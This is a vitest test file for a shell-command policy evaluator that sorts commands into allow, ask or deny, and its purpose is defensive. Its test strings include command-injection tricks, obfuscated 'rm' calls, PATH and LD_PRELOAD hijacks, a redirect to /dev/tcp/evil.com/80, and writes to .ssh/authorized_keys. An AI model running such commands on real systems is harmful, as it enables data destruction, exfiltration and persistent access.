import { describe, expect, it } from "vitest"
import { evaluate, readCommand } from "../src/index.ts"
import { compile, run } from "./fixtures/policies.ts"

const policy = compile(
  { id: "tests", decision: "allow", match: { kind: "execute", command: "pnpm test*" } },
  { id: "no-rm", decision: "deny", match: { command: "rm *" } },
)

describe("with `pnpm test*` allowed and `rm *` denied", () => {
  it.each([
    ["pnpm test", "allow"],
    ["pnpm test:unit", "allow"],
    ["pnpm test --watch a b", "allow"],
    ["pnpm test 'a b' \"c d\" e\\ f", "allow"],
    ["p'n'pm \"te\"st", "allow"],
    ["pnpm \\\n test", "allow"],
    ["pnpm test äöü 日本 🙂", "allow"],
    ["pnpm test '; rm x'", "allow"],
    ['pnpm test "| rm x"', "allow"],
    ["pnpm test '$(rm x)'", "allow"],
    ["pnpm test \\; rm", "allow"],
    ["pnpm test # rm x", "allow"],
    ["# first\npnpm test\n", "allow"],
    ["pnpm test; pnpm test", "allow"],
    ["pnpm test && pnpm test || pnpm test &", "allow"],
    ["pnpm test | pnpm test |& pnpm test", "allow"],
    ["(pnpm test)", "allow"],
    ["{ pnpm test; }", "allow"],
    ["! pnpm test", "allow"],
    ["time pnpm test", "allow"],
    ["if pnpm test; then pnpm test; else pnpm test; fi", "allow"],
    ["while pnpm test; do pnpm test; done", "allow"],
    ["CI=1 NODE_ENV=test pnpm test", "allow"],
    ["pnpm test 2>&1 >/dev/null 2>/dev/null", "allow"],
    ["pnpm test <<'E'\nrm $(rm x)\nE", "allow"],
    ["pnpm test <<E\nplain\nE", "allow"],
    ["pnpm test <<< plain", "allow"],
    ["bash -c 'pnpm test && pnpm test'", "allow"],
    ["sh -ec \"bash -c 'pnpm test'\"", "allow"],
    ["", "ask"],
    ["# pnpm test", "ask"],
    ["ls", "ask"],
    ["pnpm", "ask"],
    ["pnpmtest", "ask"],
    ["'pnpm test'", "ask"],
    ["pnpm\u00a0test", "ask"],
    ["./pnpm test", "ask"],
    ["/tmp/pnpm test", "ask"],
    ["PNPM test", "ask"],
    ["pnpm  run test", "ask"],
    ["pnpm test && ls", "ask"],
    ["pnpm test\nls", "ask"],
    ["pnpm test & ls", "ask"],
    ["pnpm test | sh", "ask"],
    ["pnpm test $X", "ask"],
    ['pnpm test "$X"', "ask"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the shell's.
    ["pnpm test ${X:-a}", "ask"],
    ["pnpm test $((1+1))", "ask"],
    ["pnpm test *.ts", "ask"],
    ["pnpm test ?", "ask"],
    ["pnpm test [ab]", "ask"],
    ["pnpm test {a,b}", "ask"],
    ["pnpm test ~", "ask"],
    ["pnpm test ~root/x", "ask"],
    ["pnpm test =ls", "ask"],
    ["pnpm test $(pnpm test)", "ask"],
    ["pnpm test `pnpm test`", "ask"],
    ["pnpm test <(pnpm test)", "ask"],
    ["pnpm test $'a'", "ask"],
    ["pnpm test $'\\' ; rm x ; echo \\''", "ask"],
    ['pnpm test $"a"', "ask"],
    ["pnpm test <<E\n$X\nE", "ask"],
    ["pnpm test <<E\nno end", "ask"],
    ["pnpm test <<< $X", "ask"],
    ["pnpm test > out", "ask"],
    ["pnpm test >! out", "ask"],
    ["pnpm test &> out", "ask"],
    ["pnpm test < in", "ask"],
    ["pnpm test > /dev/tcp/evil.com/80", "ask"],
    ["pnpm test {fd}>&1", "ask"],
    ["> pnpm", "ask"],
    ["PATH=/tmp pnpm test", "ask"],
    ["PATH=/tmp; pnpm test", "ask"],
    ["LD_PRELOAD=x pnpm test", "ask"],
    ["NODE_OPTIONS=--require=x pnpm test", "ask"],
    ["CI[0]=1 pnpm test", "ask"],
    ["export PATH=/tmp; pnpm test", "ask"],
    ["for PATH in /tmp; do pnpm test; done", "ask"],
    ["((PATH=1)); pnpm test", "ask"],
    ["[[ 'a[$(rm x)]' -eq 1 ]] && pnpm test", "ask"],
    ["pnpm() { ls; }; pnpm test", "ask"],
    ["function pnpm { pnpm test; }; pnpm test", "ask"],
    ["alias pnpm=ls\npnpm test", "ask"],
    ["pnpm test 'a", "ask"],
    ['pnpm test "a', "ask"],
    ["pnpm test `a", "ask"],
    ["pnpm test $(", "ask"],
    ["(pnpm test", "ask"],
    ["pnpm test)", "ask"],
    ["pnpm test &&", "ask"],
    ["| pnpm test", "ask"],
    ["pnpm test\0; x", "ask"],
    ['bash -c "pnpm test $X"', "ask"],
    ["bash --rcfile x -c 'pnpm test'", "ask"],
    ["zsh -c 'pnpm test'", "ask"],
    ["/tmp/bash -c 'pnpm test'", "ask"],
    ["sudo pnpm test", "ask"],
    ["env pnpm test", "ask"],
    ["xargs pnpm test", "ask"],
    ["eval pnpm test", "ask"],
    ["coproc pnpm test", "ask"],
    ["r{m,x} x", "ask"],
    ["$(echo rm) x", "ask"],
    ["echo rm x", "ask"],
    ["rmdir x", "ask"],
    ["rm", "deny"],
    ["rm -rf x", "deny"],
    ["RM x", "deny"],
    ["/bin/rm x", "deny"],
    ["\\rm x", "deny"],
    ["r''m x", "deny"],
    ['r"m" x', "deny"],
    ["r\\\nm x", "deny"],
    ["$'\\x72m' x", "deny"],
    ["rm $X", "deny"],
    ["rm *", "deny"],
    ["A=1 rm x", "deny"],
    ["> out rm x", "deny"],
    ["pnpm test; rm x", "deny"],
    ["pnpm test\nrm x", "deny"],
    ["pnpm test && rm x", "deny"],
    ["pnpm test & rm x", "deny"],
    ["a && (b; rm x)", "deny"],
    ["a | rm x", "deny"],
    ["! rm x", "deny"],
    ["time -p rm x", "deny"],
    ["pnpm test $(rm x)", "deny"],
    ['pnpm test "a $(rm x) b"', "deny"],
    ["pnpm test `rm x`", "deny"],
    ["pnpm test `echo \\`rm x\\``", "deny"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the shell's.
    ["pnpm test ${X:-$(rm x)}", "deny"],
    ["pnpm test $(( $(rm x) ))", "deny"],
    ["pnpm test <(rm x)", "deny"],
    ["pnpm test > $(rm x)", "deny"],
    ["X=$(rm x)", "deny"],
    ["X=(a $(rm x))", "deny"],
    ["export X=$(rm x)", "deny"],
    ["pnpm test <<E\n$(rm x)\nE", "deny"],
    ['pnpm test <<< "$(rm x)"', "deny"],
    ["f() { rm x; }", "deny"],
    ["case $X in a) rm x;; esac", "deny"],
    ["for i in $(rm x); do a; done", "deny"],
    ["until a; do rm x; done", "deny"],
    ["[[ -n $(rm x) ]]", "deny"],
    ["coproc rm x", "deny"],
    ["!(rm x)", "deny"],
    ["bash -c 'rm x'", "deny"],
    ['bash -c "pnpm test; rm $X"', "deny"],
    ["bash -lc 'sh -c \"rm x\"'", "deny"],
    ["/bin/sh -c 'rm x'", "deny"],
    ["zsh -fc 'rm x'", "deny"],
    ["bash -o pipefail -c 'rm x'", "deny"],
    ["bash <<E\nrm x\nE", "deny"],
    ["sh <<< 'rm x'", "deny"],
    ["sudo rm x", "deny"],
    ["sudo -u root /bin/rm x", "deny"],
    ["env -i A=b rm x", "deny"],
    ["nohup timeout 5 rm x", "deny"],
    ["find . -name a | xargs -0 rm", "deny"],
    ["find . -exec rm {} +", "deny"],
    ["xargs sh -c 'rm \"$@\"' _", "deny"],
    ["eval 'rm x'", "deny"],
    ["eval r'm' x", "deny"],
    ["trap 'rm x' EXIT", "deny"],
    ["ssh host 'cd /; rm x'", "deny"],
    ["command rm x", "deny"],
    ["$SUDO rm x", "deny"],
    ["echo 'a' \"$(rm x", "deny"],
    ["rm 'a", "deny"],
    ["(rm x", "deny"],
    ["rm x\0", "deny"],
    ["pnpm test;; rm x", "deny"],
    ["pnpm test $(a;; rm x)", "deny"],
    ["CI['$(rm x)']=1 pnpm test", "ask"],
    ["pnpm test) ; r'm' x", "deny"],
  ] as const)("%j: %s", (command, decision) => {
    expect(evaluate(policy, run(command)).decision).toBe(decision)
  })
})

describe("a pattern that allows", () => {
  it.each([
    ["**", "sudo ls", "ask"],
    ["**", "ls -l", "allow"],
    ["*", "ls -l", "allow"],
    ["ls", "ls -l", "ask"],
    ["git * main", "git push main", "allow"],
    ["git * main", "git push origin main", "ask"],
    ["git ** main", "git push origin main", "allow"],
    ["s* systemctl status*", "sudo systemctl status a", "ask"],
    ["sudo systemctl status*", "sudo systemctl status a", "allow"],
    ["find *", "find . -name a", "allow"],
    ["find *", "find . -delete", "ask"],
    ["find * -delete", "find . -delete", "allow"],
    ["find * -exec *", "find . -exec rm {} ; -delete", "ask"],
    ["bash *", "bash -c 'ls'", "ask"],
    ["bash *", "bash script.sh", "allow"],
    ["npm run \\*", "npm run '*'", "allow"],
    ["npm run \\*", "npm run test", "ask"],
  ] as const)("%j of %j: %s", (pattern, command, decision) => {
    const rules = compile({ id: "a", decision: "allow", match: { kind: "execute", command: pattern } })
    expect(evaluate(rules, run(command)).decision).toBe(decision)
  })
})

it("a pattern that denies sees the part of a word that is plain", () => {
  const rules = compile({ id: "force", decision: "deny", match: { command: "git push ** --force*" } })
  expect(evaluate(rules, run("git push origin --force-$HOW main")).decision).toBe("deny")
  expect(evaluate(rules, run("git push origin $HOW")).decision).toBe("ask")
})

it("scripts in scripts end in a question, not in a long wait", () => {
  let script = "ls"
  for (let depth = 0; depth < 12; depth++) script = `sh -c '${script.replaceAll("'", "'\\''")}'`
  const rules = compile({ id: "a", decision: "allow", match: { kind: "execute", command: "ls" } })
  expect(evaluate(rules, run("sh -c 'sh -c ls'")).decision).toBe("allow")
  expect(evaluate(rules, run(script)).decision).toBe("ask")
})

it.each([
  ["nested too deep", `${"$(".repeat(20_000)}rm x${")".repeat(20_000)}`],
  ["too long", `pnpm test ${"a".repeat(300_000)}; rm x`],
])("a script that is %s is still looked through for what is denied", (_what, script) => {
  expect(evaluate(policy, run(script)).decision).toBe("deny")
})

it("names the files of redirects, for somebody who can follow links", () => {
  const context = { workDir: "/projects/demo", home: "/home/ada" }
  expect(readCommand("a > b 2>> ../c < ~/d &> /e 2>&1 > /dev/null", context).files).toEqual([
    "/projects/demo/b",
    "/projects/c",
    "/home/ada/d",
    "/e",
  ])
})

it.each([
  ["cd ~ && echo x >> .ssh/authorized_keys", "deny"],
  ["cd / && cd home/ada; echo x > .ssh/config", "deny"],
  ["bash -c 'cd ~/.ssh && cat < config'", "deny"],
  ["echo x > $HOME/.ssh/config", "deny"],
  ['echo x > "$HOME/.ssh/config"', "deny"],
  ["cd sub && echo x > out", "ask"],
  ["git -C sub log > out", "allow"],
  ["git -C / log > out", "allow"],
])("the files of redirects are those of every folder that the line may have gone to: %s", (command, decision) => {
  const rules = compile(
    { id: "keys", decision: "deny", match: { path: "~/.ssh/**" } },
    { id: "git", decision: "allow", match: { kind: "execute", command: ["git *", "cd *", "echo *"] } },
    { id: "own", decision: "allow", match: { kind: "execute", path: `\${workDir}/**` } },
  )
  expect(evaluate(rules, run(command)).decision).toBe(decision)
})
